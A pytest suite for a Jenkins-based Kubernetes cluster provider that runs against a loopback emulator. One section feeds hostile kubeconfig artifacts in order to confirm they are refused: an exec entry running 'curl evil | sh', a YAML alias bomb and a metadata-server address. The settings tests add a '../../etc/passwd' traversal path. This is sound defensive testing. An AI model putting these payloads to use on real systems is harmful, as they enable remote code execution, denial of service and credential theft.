"""The jenkins provider against a loopback Jenkins emulator whose jobs drive a real sandbox."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml

from providers.base import ClusterSpec, Progress, Provider
from providers.errors import (
    ClusterNotFound,
    InvalidClusterRequest,
    PermanentProviderError,
    ProviderConfigError,
    TransientProviderError,
)
from providers.jenkins import JenkinsProvider
from providers.sandbox.sandbox import Sandbox, SandboxSettings
from tests.emulators.jenkins import JenkinsEmulator

CREATE = "create-cluster"
KUBECTL = "/usr/bin/kubectl"


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    sb = Sandbox(SandboxSettings(state_dir=tmp_path_factory.mktemp("sandbox"), tick_seconds=0.05))
    sb.start()
    yield sb
    sb.close()


@pytest.fixture
def emulator(sandbox: Sandbox) -> Iterator[JenkinsEmulator]:
    with JenkinsEmulator(sandbox, queue_seconds=0.05, build_seconds=0.2) as emu:
        yield emu


def base_settings(emu: JenkinsEmulator, **overrides) -> dict:
    settings = {
        "url": emu.url,
        "user": "kaas",
        "token_env": "JENKINS_TOKEN",
        "create_job": CREATE,
        "delete_job": "delete-cluster",
        "scale_job": "scale-cluster",
        "versions": ["1.31", "1.32"],
        "machine_types": ["e2-standard-4"],
        "allow_private_networks": True,
        "timeout_seconds": 5,
    }
    settings.update(overrides)
    return {k: v for k, v in settings.items() if v is not None}


@pytest.fixture
def make_provider(
    emulator: JenkinsEmulator, request: pytest.FixtureRequest
) -> Callable[..., JenkinsProvider]:
    def make(token: str | None = None, **overrides) -> JenkinsProvider:
        provider = JenkinsProvider.from_profile(
            base_settings(emulator, **overrides), env={"JENKINS_TOKEN": token or emulator.token}
        )
        request.addfinalizer(provider.close)
        return provider

    return make


@pytest.fixture
def provider(make_provider) -> JenkinsProvider:
    return make_provider()


def wait(provider: JenkinsProvider, handle: dict, timeout: float = 15) -> Progress:
    deadline = time.monotonic() + timeout
    while True:
        progress = provider.poll(json.loads(json.dumps(handle)))
        assert 0 <= progress.percent <= 100
        if progress.done:
            return progress
        assert time.monotonic() < deadline, f"operation did not finish: {progress}"
        time.sleep(0.05)


def spec(name: str, request_id: str = "", nodes: int = 2) -> ClusterSpec:
    return ClusterSpec(name=name, node_count=nodes, version="1.32", request_id=request_id)


def created(provider: JenkinsProvider, name: str) -> str:
    return wait(provider, provider.start_create(spec(name, f"req-{name}"))).cluster_ref


def kubectl(kubeconfig: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    path = tmp_path / "kubeconfig"
    path.write_text(kubeconfig)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path)}
    return subprocess.run(
        [KUBECTL, "--kubeconfig", str(path), *args], capture_output=True, text=True, timeout=60, env=env
    )


# -- lifecycle -------------------------------------------------------------------------------------------


def test_full_lifecycle_create_kubeconfig_scale_delete(
    provider: JenkinsProvider, emulator: JenkinsEmulator, sandbox: Sandbox, tmp_path: Path
) -> None:
    assert isinstance(provider, Provider)
    assert provider.versions() == ["1.31", "1.32"]
    handle = provider.start_create(spec("life", "req-life"))
    assert handle == {
        "op": "create",
        "job": CREATE,
        "queue": handle["queue"],
        "build": None,
        "kaas_build_id": "req-life",
    }
    assert json.loads(json.dumps(handle)) == handle
    done = wait(provider, handle)
    assert done == Progress(True, 100, "cluster created", f"{CREATE}#1")
    build = emulator.builds[CREATE][1]
    assert build.params == {
        "CLUSTER_NAME": "life",
        "NODE_COUNT": "2",
        "K8S_VERSION": "1.32",
        "KAAS_BUILD_ID": "req-life",
    }

    config = provider.kubeconfig(done.cluster_ref)
    result = kubectl(config, tmp_path, "get", "nodes", "-o", "name")
    assert result.returncode == 0, result.stderr
    assert len(result.stdout.split()) == 2

    info = provider.describe(done.cluster_ref)
    assert (info.name, info.state, info.version, info.node_count) == ("life", "running", "1.32", 2)
    assert info.endpoint.startswith("https://127.0.0.1:")

    cluster_id = emulator.clusters["life"]
    scaled = wait(provider, provider.start_scale(done.cluster_ref, 3))
    assert scaled.done and scaled.cluster_ref == done.cluster_ref
    assert sandbox.info(cluster_id).node_count == 3

    deleted = wait(provider, provider.start_delete(done.cluster_ref))
    assert deleted == Progress(True, 100, "cluster deleted", done.cluster_ref)
    assert emulator.builds["delete-cluster"][1].params["CLUSTER_NAME"] == "life"
    assert "life" not in emulator.clusters
    deadline = time.monotonic() + 5
    while sandbox.find(cluster_id) is not None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sandbox.find(cluster_id) is None


def test_progress_reports_queue_then_build(sandbox: Sandbox) -> None:
    with JenkinsEmulator(sandbox, queue_seconds=0.4, build_seconds=1.0) as emu:
        provider = JenkinsProvider.from_profile(base_settings(emu), env={"JENKINS_TOKEN": emu.token})
        try:
            handle = provider.start_create(spec("slow", "req-slow"))
            first = provider.poll(handle)
            assert not first.done and first.percent == 0 and "queue" in first.step
            time.sleep(0.6)
            running = provider.poll(handle)
            assert not running.done and 1 <= running.percent <= 99
            assert running.cluster_ref == f"{CREATE}#1"
            assert wait(provider, handle).cluster_ref == f"{CREATE}#1"
        finally:
            provider.close()


# -- resuming ----------------------------------------------------------------------------------------------


def test_new_instance_resumes_saved_handle_after_queue_item_is_forgotten(
    make_provider, emulator: JenkinsEmulator
) -> None:
    first = make_provider()
    saved = json.dumps(first.start_create(spec("resume", "req-resume")))
    first.close()
    time.sleep(0.4)  # the build starts and finishes while no kaas process is watching
    emulator.forget_queue()

    second = make_provider()
    handle = json.loads(saved)
    done = wait(second, handle)
    assert done.cluster_ref == f"{CREATE}#1"
    assert ("GET", f"/queue/item/{handle['queue']}/api/json") in emulator.requests
    assert emulator.triggered(CREATE) == 1
    assert "apiVersion" in second.kubeconfig(done.cluster_ref)


def test_retried_start_create_follows_the_existing_run(make_provider, sandbox: Sandbox) -> None:
    with JenkinsEmulator(sandbox, queue_seconds=0.5, build_seconds=0.2) as emu:
        settings = base_settings(emu)
        env = {"JENKINS_TOKEN": emu.token}
        providers = [JenkinsProvider.from_profile(settings, env=env) for _ in range(3)]
        try:
            first = providers[0].start_create(spec("again", "req-again"))
            # Still queued: found in the queue by its KAAS_BUILD_ID.
            second = providers[1].start_create(spec("again", "req-again"))
            assert second["queue"] == first["queue"]
            assert emu.triggered(CREATE) == 1
            done = wait(providers[1], second)
            emu.forget_queue()
            # Finished and forgotten by the queue: found among the job's builds.
            third = providers[2].start_create(spec("again", "req-again"))
            assert third["build"] == 1 and third["kaas_build_id"] == "req-again"
            assert wait(providers[2], third) == done
            assert emu.triggered(CREATE) == 1
            # A different request is a different build.
            other = providers[2].start_create(spec("again2", "req-other"))
            assert wait(providers[2], other).cluster_ref == f"{CREATE}#2"
            assert emu.triggered(CREATE) == 2
        finally:
            for p in providers:
                p.close()


def test_handle_whose_build_is_gone_fails_permanently(provider: JenkinsProvider) -> None:
    handle = {"op": "create", "job": CREATE, "queue": 999, "build": None, "kaas_build_id": "nobody"}
    with pytest.raises(PermanentProviderError, match="no queued or recent build"):
        provider.poll(handle)
    with pytest.raises(PermanentProviderError, match="malformed"):
        provider.poll({"op": "explode"})


# -- faults ------------------------------------------------------------------------------------------------


def test_429_with_retry_after_is_transient(provider: JenkinsProvider, emulator: JenkinsEmulator) -> None:
    emulator.inject(r"/buildWithParameters$", 429, retry_after=7, body="Too many builds queued")
    with pytest.raises(TransientProviderError) as err:
        provider.start_create(spec("busy"))
    assert "429" in err.value.message and "Too many builds queued" in err.value.message
    assert err.value.retry_after == 7 and "retry after 7 s" in err.value.message
    assert err.value.__cause__ is not None
    assert emulator.triggered(CREATE) == 1  # the refused attempt; a retry then succeeds
    assert wait(provider, provider.start_create(spec("busy"))).done


def test_503_while_polling_is_transient_then_recovers(
    provider: JenkinsProvider, emulator: JenkinsEmulator
) -> None:
    handle = provider.start_create(spec("flaky", "req-flaky"))
    time.sleep(0.35)
    emulator.inject(r"^/(queue/item/|job/create-cluster/\d+/api/json$)", 503, body="Jenkins is restarting")
    with pytest.raises(TransientProviderError, match=r"503.*Jenkins is restarting"):
        provider.poll(handle)
    assert wait(provider, handle).cluster_ref == f"{CREATE}#1"


def test_500_is_transient(provider: JenkinsProvider, emulator: JenkinsEmulator) -> None:
    emulator.inject(r"/buildWithParameters$", 500, body="java.lang.NullPointerException")
    with pytest.raises(TransientProviderError, match=r"500.*NullPointerException"):
        provider.start_create(spec("npe"))


@pytest.mark.parametrize("result", ["FAILURE", "ABORTED"])
def test_failed_build_is_permanent_with_console_tail(
    provider: JenkinsProvider, emulator: JenkinsEmulator, result: str
) -> None:
    lines = [f"TASK [step {i}] ok" for i in range(30)]
    lines.append("fatal: [node1]: UNREACHABLE! => ssh: connect to host 10.0.0.5 port 22: No route to host")
    emulator.fail_next_build(CREATE, lines, result=result)
    handle = provider.start_create(spec("broken", "req-broken"))
    with pytest.raises(PermanentProviderError) as err:
        wait(provider, handle)
    message = err.value.message
    assert f"ended {result}" in message
    assert "No route to host" in message and f"Finished: {result}" in message
    assert "TASK [step 29] ok" in message and "TASK [step 5] ok" not in message
    assert not isinstance(err.value, TransientProviderError)


def test_installer_refusal_comes_back_in_the_console(provider: JenkinsProvider) -> None:
    handle = provider.start_create(spec("Not_A_Valid_Name", "req-bad-name"))
    with pytest.raises(PermanentProviderError, match="invalid cluster name"):
        wait(provider, handle)


def test_wrong_token_is_permanent_with_jenkins_message(make_provider) -> None:
    provider = make_provider(token="not-the-token")
    with pytest.raises(PermanentProviderError) as err:
        provider.start_create(spec("denied"))
    assert "401" in err.value.message
    assert "Invalid password/token for user: kaas" in err.value.message
    assert "not-the-token" not in err.value.message


def test_timeout_is_transient(make_provider, emulator: JenkinsEmulator) -> None:
    provider = make_provider(timeout_seconds=0.3)
    emulator.inject(r"^/queue/api/json$", None, delay=1.0)
    with pytest.raises(TransientProviderError, match="did not answer in time"):
        provider.start_create(spec("slowpoke", "req-slowpoke"))


def test_unreachable_jenkins_is_transient(emulator: JenkinsEmulator) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    settings = base_settings(emulator, url=f"http://127.0.0.1:{port}/")
    provider = JenkinsProvider.from_profile(settings, env={"JENKINS_TOKEN": "t"})
    try:
        with pytest.raises(TransientProviderError, match="cannot reach Jenkins"):
            provider.start_create(spec("nowhere"))
    finally:
        provider.close()


def test_unknown_job_is_permanent(make_provider) -> None:
    provider = make_provider(create_job="no-such-job")
    with pytest.raises(PermanentProviderError, match="no job named no-such-job"):
        provider.start_create(spec("x", "req-x"))
    with pytest.raises(PermanentProviderError, match="404"):
        provider.start_create(spec("x"))


def test_unsupported_operations_and_requests(make_provider, provider: JenkinsProvider) -> None:
    with pytest.raises(InvalidClusterRequest, match="unsupported Kubernetes version"):
        provider.start_create(ClusterSpec(name="v", node_count=1, version="1.20"))
    with pytest.raises(InvalidClusterRequest, match="unknown machine type"):
        provider.start_create(ClusterSpec(name="v", node_count=1, version="1.32", machine_type="huge"))
    with pytest.raises(PermanentProviderError, match="cannot be upgraded"):
        provider.start_upgrade(f"{CREATE}#1", "1.33")
    with pytest.raises(PermanentProviderError, match="node replacement"):
        provider.start_replace_node(f"{CREATE}#1", "node-1")
    with pytest.raises(PermanentProviderError, match="no scale_job"):
        make_provider(scale_job=None).start_scale(f"{CREATE}#1", 3)
    with pytest.raises(ClusterNotFound):
        provider.kubeconfig(f"{CREATE}#42")
    with pytest.raises(ClusterNotFound):
        provider.describe(f"{CREATE}#42")
    with pytest.raises(ClusterNotFound, match="malformed"):
        provider.start_delete("not-a-ref")


def test_delete_failure_surfaces_console(provider: JenkinsProvider, emulator: JenkinsEmulator) -> None:
    ref = created(provider, "gone")
    emulator.clusters.pop("gone")  # someone deleted it behind kaas's back
    with pytest.raises(PermanentProviderError, match="no cluster named gone"):
        wait(provider, provider.start_delete(ref))


# -- hostile artifacts ---------------------------------------------------------------------------------

_CA = "LS0tLS1CRUdJTi0tLS0t"


def _kubeconfig(server: str = "https://127.0.0.1:6443", **user) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "v1",
            "kind": "Config",
            "clusters": [{"name": "c", "cluster": {"server": server, "certificate-authority-data": _CA}}],
            "users": [{"name": "u", "user": user or {"token": "s3cret-token"}}],
            "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
            "current-context": "x",
        }
    )


_BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]" for i in range(8)]
    + ["clusters: [*i]"]
)

HOSTILE = {
    "exec-user": (
        _kubeconfig(exec={"command": "sh", "args": ["-c", "curl evil | sh"], "apiVersion": "v1"}).encode(),
        "`exec` is not accepted",
    ),
    "yaml-bomb": (_BOMB.encode(), "aliases are not accepted"),
    "not-yaml": (b"clusters: [unclosed\n  users: {", "not valid YAML"),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe", "not UTF-8"),
    "not-a-mapping": (b"- just\n- a list\n", "not a YAML mapping"),
    "deeply-nested": (b"[" * 50_000, "nested too deeply|not valid YAML"),
    "metadata-server": (_kubeconfig(server="https://169.254.169.254/").encode(), "link-local"),
    "plain-http": (_kubeconfig(server="http://127.0.0.1:6443").encode(), "https"),
    "too-large": (b"#" * (300 * 1024), "larger than"),
}


@pytest.fixture
def built(provider: JenkinsProvider) -> str:
    return created(provider, "hostile")


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_kubeconfig_artifacts_are_refused(
    provider: JenkinsProvider, emulator: JenkinsEmulator, built: str, case: str
) -> None:
    data, reason = HOSTILE[case]
    emulator.set_artifact(CREATE, 1, "kubeconfig.yaml", data)
    with pytest.raises(PermanentProviderError, match=reason) as err:
        provider.kubeconfig(built)
    assert "s3cret-token" not in err.value.message


def test_private_server_address_refused_unless_allowed(make_provider, built: str) -> None:
    strict = make_provider(allow_private_networks=False)
    with pytest.raises(PermanentProviderError, match="is private"):
        strict.kubeconfig(built)


def test_custom_artifact_path_and_parameter_names(make_provider, emulator: JenkinsEmulator) -> None:
    provider = make_provider(
        kubeconfig_artifact="out/admin.conf",
        parameters={"cluster_name": "CLUSTER_NAME", "build_id": "KAAS_BUILD_ID", "node_count": "WORKERS"},
    )
    ref = created(provider, "custom")
    assert emulator.builds[CREATE][1].params["WORKERS"] == "2"
    with pytest.raises(ClusterNotFound, match=r"no artifact out/admin\.conf"):
        provider.kubeconfig(ref)
    emulator.set_artifact(CREATE, 1, "out/admin.conf", _kubeconfig().encode())
    assert "s3cret-token" in provider.kubeconfig(ref)


# -- settings ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"url": None}, "url"),
        ({"url": "ftp://jenkins.example"}, "url"),
        ({"url": "https://admin:pw@jenkins.example/"}, "url"),
        ({"create_job": None}, "create_job"),
        ({"token": "inline-secret"}, "token"),
        ({"token_env": None}, "token_env"),
        ({"token_file": "/tmp/also"}, "token_env"),
        ({"kubeconfig_artifact": "../../etc/passwd"}, "kubeconfig_artifact"),
        ({"kubeconfig_artifact": "/abs/kubeconfig"}, "kubeconfig_artifact"),
        ({"parameters": {"bogus": "X"}}, "parameters.bogus"),
        ({"timeout_seconds": -1}, "timeout_seconds"),
        ({"allow_private_networks": "perhaps"}, "allow_private_networks"),
        ({"surprise": 1}, "surprise"),
    ],
)
def test_bad_settings_name_the_field(emulator: JenkinsEmulator, change: dict, field: str) -> None:
    settings = base_settings(emulator)
    for key, value in change.items():
        if value is None:
            settings.pop(key, None)
        else:
            settings[key] = value
    with pytest.raises(ProviderConfigError, match=field) as err:
        JenkinsProvider.from_profile(settings, env={"JENKINS_TOKEN": "t"})
    assert "inline-secret" not in err.value.message


def test_token_sources(emulator: JenkinsEmulator, tmp_path: Path) -> None:
    with pytest.raises(ProviderConfigError, match="token_env: environment variable JENKINS_TOKEN"):
        JenkinsProvider.from_profile(base_settings(emulator), env={})
    missing = base_settings(emulator, token_env=None, token_file=str(tmp_path / "absent"))
    with pytest.raises(ProviderConfigError, match="token_file"):
        JenkinsProvider.from_profile(missing, env={})
    (tmp_path / "empty").write_text("\n")
    empty = base_settings(emulator, token_env=None, token_file=str(tmp_path / "empty"))
    with pytest.raises(ProviderConfigError, match=r"token_file: .* is empty"):
        JenkinsProvider.from_profile(empty, env={})
    (tmp_path / "token").write_text(emulator.token + "\n")
    good = base_settings(emulator, token_env=None, token_file=str(tmp_path / "token"))
    provider = JenkinsProvider.from_profile(good, env={})
    try:
        assert wait(provider, provider.start_create(spec("fromfile"))).done
    finally:
        provider.close()


def test_a_retried_delete_or_scale_finds_its_build_instead_of_starting_another(
    provider: JenkinsProvider, emulator: JenkinsEmulator, make_provider
) -> None:
    """A trigger that timed out on our side may have queued the build: the retry must find it."""
    ref = created(provider, "twice")
    first = provider.start_scale(ref, 3, request_id="op-scale-1")
    again = make_provider().start_scale(ref, 3, request_id="op-scale-1")
    assert wait(provider, again).done and wait(provider, first).done
    assert len(emulator.builds["scale-cluster"]) == 1

    first = provider.start_delete(ref, request_id="op-delete-1")
    again = make_provider().start_delete(ref, request_id="op-delete-1")
    assert wait(provider, again) == Progress(True, 100, "cluster deleted", ref)
    assert len(emulator.builds["delete-cluster"]) == 1
    assert "twice" not in emulator.clusters
